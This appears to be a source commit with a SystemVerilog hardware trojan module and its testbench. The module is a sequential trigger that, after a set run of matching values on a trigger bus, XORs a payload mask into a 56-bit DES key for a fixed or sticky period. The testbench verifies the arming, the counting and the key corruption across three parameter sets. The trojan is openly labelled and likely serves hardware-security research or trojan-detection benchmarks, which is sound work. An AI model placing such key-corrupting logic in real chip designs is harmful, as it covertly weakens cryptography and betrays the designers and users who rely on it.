trojan_seq_trigger: RTL and testbench

//  Sequential, parametrised key-corruption trojan for the DES key path (56-bit key).

---
 rtl/trojan_seq_trigger.sv | 115 +++++++++++
 tb/tb_trojan_seq_trigger.sv | 199 +++++++++++++++++++
 2 files changed

// File: rtl/trojan_seq_trigger.sv
// Sequential key-corruption trigger on the DES key path: arms after COUNT_N consecutive
// matching trigger samples, then XORs PAYLOAD_MASK into the key for ARM_CYCLES cycles (0 = sticky).
module trojan_seq_trigger #(
  parameter int                 KEY_W        = 56,
  parameter int                 TRIG_W       = 32,
  parameter int                 MATCH_W      = 4,
  parameter logic [MATCH_W-1:0] MATCH_VAL    = 4'hF,
  parameter int                 COUNT_N      = 4,
  parameter int                 ARM_CYCLES   = 8,
  parameter logic [KEY_W-1:0]   PAYLOAD_MASK = 56'h1,
  localparam int                CW           = $clog2(COUNT_N + 1)
) (
  input  logic              clk,
  input  logic              rst,
  input  logic              trig_valid,
  input  logic [TRIG_W-1:0] trigger,
  input  logic [KEY_W-1:0]  key,
  output logic [KEY_W-1:0]  payload,
  output logic              armed,
  output logic [CW-1:0]     match_cnt
);

  localparam int          TW         = (ARM_CYCLES > 1) ? $clog2(ARM_CYCLES) : 1;
  localparam logic [TW-1:0] TIMER_INIT = TW'((ARM_CYCLES > 0) ? (ARM_CYCLES - 1) : 0);
  localparam logic [CW-1:0] CNT_LAST   = CW'((COUNT_N > 0) ? (COUNT_N - 1) : 0);

  typedef enum logic [1:0] {
    S_IDLE  = 2'd0,
    S_COUNT = 2'd1,
    S_ARMED = 2'd2
  } state_t;

  state_t        state_q, state_d;
  logic [CW-1:0] cnt_q, cnt_d;
  logic [TW-1:0] timer_q, timer_d;
  logic          armed_q;
  logic          match;
  logic          unused_trig;

  // Only the low MATCH_W bits of the trigger take part in the compare.
  assign unused_trig = ^trigger;

  // trig_valid gates the compare so junk on trigger during bubbles is harmless.
  assign match = trig_valid && (trigger[MATCH_W-1:0] == MATCH_VAL);

  always_comb begin
    state_d = state_q;
    cnt_d   = cnt_q;
    timer_d = timer_q;
    unique case (state_q)
      S_IDLE: begin
        cnt_d = '0;
        if (match) begin
          if (COUNT_N == 1) begin
            state_d = S_ARMED;
            timer_d = TIMER_INIT;
          end else begin
            state_d = S_COUNT;
            cnt_d   = CW'(1);
          end
        end
      end
      S_COUNT: begin
        if (match) begin
          if (cnt_q == CNT_LAST) begin
            state_d = S_ARMED;
            cnt_d   = '0;
            timer_d = TIMER_INIT;
          end else begin
            cnt_d = cnt_q + CW'(1);
          end
        end else if (trig_valid) begin
          state_d = S_IDLE;
          cnt_d   = '0;
        end
      end
      S_ARMED: begin
        // Trigger is ignored here, including on the exit cycle.
        cnt_d = '0;
        if (ARM_CYCLES != 0) begin
          if (timer_q == '0) begin
            state_d = S_IDLE;
          end else begin
            timer_d = timer_q - TW'(1);
          end
        end
      end
      default: begin
        state_d = S_IDLE;
        cnt_d   = '0;
        timer_d = '0;
      end
    endcase
  end

  always_ff @(posedge clk or posedge rst) begin
    if (rst) begin
      state_q <= S_IDLE;
      cnt_q   <= '0;
      timer_q <= '0;
      armed_q <= 1'b0;
    end else begin
      state_q <= state_d;
      cnt_q   <= cnt_d;
      timer_q <= timer_d;
      armed_q <= (state_d == S_ARMED);
    end
  end

  // Corruption follows the registered armed flag, so async reset clears it at once.
  assign payload   = armed_q ? (key ^ PAYLOAD_MASK) : key;
  assign armed     = armed_q;
  assign match_cnt = cnt_q;

endmodule

// File: tb/tb_trojan_seq_trigger.sv
// Bench for trojan_seq_trigger: three parameterisations driven by shared stimulus and
// checked every cycle against a run-length / remaining-cycles model, plus literal pins.
module tb_trojan_seq_trigger;

  logic        clk = 1'b0;
  logic        rst = 1'b0;
  logic        trig_valid = 1'b0;
  logic [31:0] trigger = '0;
  logic [55:0] key = '0;

  logic [55:0] pay_a, pay_b, pay_c;
  logic        arm_a, arm_b, arm_c;
  logic [2:0]  cnt_a, cnt_b;
  logic [0:0]  cnt_c;

  int n_tests = 0;
  int n_fail  = 0;

  always #5 clk = ~clk;

  trojan_seq_trigger #(.KEY_W(56), .TRIG_W(32), .MATCH_W(4), .MATCH_VAL(4'hF),
    .COUNT_N(4), .ARM_CYCLES(8), .PAYLOAD_MASK(56'h1)) dut_a (
    .clk(clk), .rst(rst), .trig_valid(trig_valid), .trigger(trigger), .key(key),
    .payload(pay_a), .armed(arm_a), .match_cnt(cnt_a));

  trojan_seq_trigger #(.KEY_W(56), .TRIG_W(32), .MATCH_W(4), .MATCH_VAL(4'hF),
    .COUNT_N(4), .ARM_CYCLES(0), .PAYLOAD_MASK(56'h1)) dut_b (
    .clk(clk), .rst(rst), .trig_valid(trig_valid), .trigger(trigger), .key(key),
    .payload(pay_b), .armed(arm_b), .match_cnt(cnt_b));

  trojan_seq_trigger #(.KEY_W(56), .TRIG_W(32), .MATCH_W(8), .MATCH_VAL(8'h3C),
    .COUNT_N(1), .ARM_CYCLES(8), .PAYLOAD_MASK(56'hFF)) dut_c (
    .clk(clk), .rst(rst), .trig_valid(trig_valid), .trigger(trigger), .key(key),
    .payload(pay_c), .armed(arm_c), .match_cnt(cnt_c));

  // Model: run length of consecutive matches, cycles of armed time left, armed flag.
  int          cn[3] = '{4, 4, 1};
  int          ac[3] = '{8, 0, 8};
  logic [31:0] mm[3] = '{32'hF, 32'hF, 32'hFF};
  logic [31:0] mv[3] = '{32'hF, 32'hF, 32'h3C};
  logic [55:0] pm[3] = '{56'h1, 56'h1, 56'hFF};
  int          run[3];
  int          left[3];
  bit          on[3];

  always @(posedge clk or posedge rst) begin
    if (rst) begin
      for (int i = 0; i < 3; i++) begin
        run[i] = 0; left[i] = 0; on[i] = 1'b0;
      end
    end else begin
      for (int i = 0; i < 3; i++) begin
        bit m;
        m = trig_valid && ((trigger & mm[i]) == mv[i]);
        if (on[i]) begin
          if (ac[i] != 0) begin
            left[i] = left[i] - 1;
            if (left[i] == 0) on[i] = 1'b0;
          end
        end else if (m) begin
          run[i] = run[i] + 1;
          if (run[i] >= cn[i]) begin
            on[i] = 1'b1; run[i] = 0; left[i] = ac[i];
          end
        end else if (trig_valid) begin
          run[i] = 0;
        end
      end
    end
  end

  task automatic chk(input string nm, input logic [63:0] act, input logic [63:0] exp);
    n_tests++;
    if (act !== exp) begin
      n_fail++;
      $display("FAIL %s actual=%0h required=%0h at %0t", nm, act, exp, $time);
    end
  endtask

  always @(negedge clk) begin
    chk("model_armA", 64'(arm_a), 64'(on[0]));
    chk("model_cntA", 64'(cnt_a), 64'(run[0]));
    chk("model_payA", 64'(pay_a), 64'(on[0] ? (key ^ pm[0]) : key));
    chk("model_armB", 64'(arm_b), 64'(on[1]));
    chk("model_cntB", 64'(cnt_b), 64'(run[1]));
    chk("model_payB", 64'(pay_b), 64'(on[1] ? (key ^ pm[1]) : key));
    chk("model_armC", 64'(arm_c), 64'(on[2]));
    chk("model_cntC", 64'(cnt_c), 64'(run[2]));
    chk("model_payC", 64'(pay_c), 64'(on[2] ? (key ^ pm[2]) : key));
  end

  task automatic tick(input logic v, input logic [31:0] t);
    trig_valid = v;
    trigger    = t;
    @(posedge clk);
    #1;
  endtask

  task automatic do_reset();
    trig_valid = 1'b0;
    trigger    = '0;
    rst        = 1'b1;
    @(posedge clk);
    #1;
    rst = 1'b0;
  endtask

  logic [31:0] seq3[8] = '{32'hF, 32'hF, 32'hF, 32'hE, 32'hF, 32'hF, 32'hF, 32'hF};
  int          ec3[8]  = '{1, 2, 3, 0, 1, 2, 3, 0};

  initial begin
    #1;
    // Reset state
    key = 56'hA5A5;
    do_reset();
    chk("t1_pay", 64'(pay_a), 64'h A5A5);
    chk("t1_arm", 64'(arm_a), 64'h0);
    chk("t1_cnt", 64'(cnt_a), 64'h0);

    // Four consecutive matches arm for exactly eight cycles
    key = 56'h10;
    for (int i = 0; i < 4; i++) tick(1'b1, 32'h0000000F);
    chk("t2_arm_first", 64'(arm_a), 64'h1);
    chk("t2_pay_first", 64'(pay_a), 64'h11);
    for (int i = 0; i < 7; i++) begin
      tick(1'b0, 32'h0);
      chk("t2_arm_hold", 64'(arm_a), 64'h1);
      chk("t2_pay_hold", 64'(pay_a), 64'h11);
    end
    tick(1'b0, 32'h0);
    chk("t2_arm_end", 64'(arm_a), 64'h0);
    chk("t2_pay_end", 64'(pay_a), 64'h10);

    // Broken run restarts the count; match on the exit edge is ignored
    do_reset();
    for (int i = 0; i < 8; i++) begin
      tick(1'b1, seq3[i]);
      chk("t3_cnt", 64'(cnt_a), 64'(ec3[i]));
      chk("t3_arm", 64'(arm_a), (i == 7) ? 64'h1 : 64'h0);
    end
    for (int i = 0; i < 7; i++) tick(1'b0, 32'h0);
    chk("t3_arm_last", 64'(arm_a), 64'h1);
    tick(1'b1, 32'hF);
    chk("t3_exit_arm", 64'(arm_a), 64'h0);
    chk("t3_exit_cnt", 64'(cnt_a), 64'h0);
    tick(1'b1, 32'hF);
    chk("t3_restart_cnt", 64'(cnt_a), 64'h1);

    // Bubbles hold the count, even with a matching pattern on the bus
    do_reset();
    tick(1'b1, 32'hF);
    chk("t4_cnt_first", 64'(cnt_a), 64'h1);
    for (int i = 0; i < 5; i++) begin
      tick(1'b0, 32'hF);
      chk("t4_cnt_bubble", 64'(cnt_a), 64'h1);
      chk("t4_arm_bubble", 64'(arm_a), 64'h0);
    end
    tick(1'b1, 32'hF);
    chk("t4_cnt2", 64'(cnt_a), 64'h2);
    tick(1'b1, 32'hF);
    chk("t4_cnt3", 64'(cnt_a), 64'h3);
    tick(1'b1, 32'hF);
    chk("t4_arm", 64'(arm_a), 64'h1);

    // Sticky arm, then asynchronous reset mid-cycle
    key = 56'hDEADBEEF;
    do_reset();
    for (int i = 0; i < 4; i++) tick(1'b1, 32'h1234567F);
    chk("t5_armB", 64'(arm_b), 64'h1);
    repeat (100) tick(1'b0, 32'h0);
    chk("t5_armB_100", 64'(arm_b), 64'h1);
    chk("t5_payB_100", 64'(pay_b), 64'hDEADBEEE);
    chk("t5_armA_100", 64'(arm_a), 64'h0);
    #2;
    rst = 1'b1;
    #1;
    chk("t5_async_arm", 64'(arm_b), 64'h0);
    chk("t5_async_pay", 64'(pay_b), 64'hDEADBEEF);
    @(posedge clk);
    #1;
    rst = 1'b0;

    // Single-match arming with an 8-bit compare
    key = 56'h123456;
    tick(1'b1, 32'h0000001C);
    chk("t6_1c_arm", 64'(arm_c), 64'h0);
    tick(1'b1, 32'h0000AB1C);
    chk("t6_ab1c_arm", 64'(arm_c), 64'h0);
    tick(1'b1, 32'h0000003C);
    chk("t6_3c_arm", 64'(arm_c), 64'h1);
    chk("t6_3c_pay", 64'(pay_c), 64'h1234A9);
    tick(1'b0, 32'h0);
    tick(1'b0, 32'h0);

    $display("[TB] %0d tests run, %0d failed", n_tests, n_fail);
    $finish;
  end

endmodule
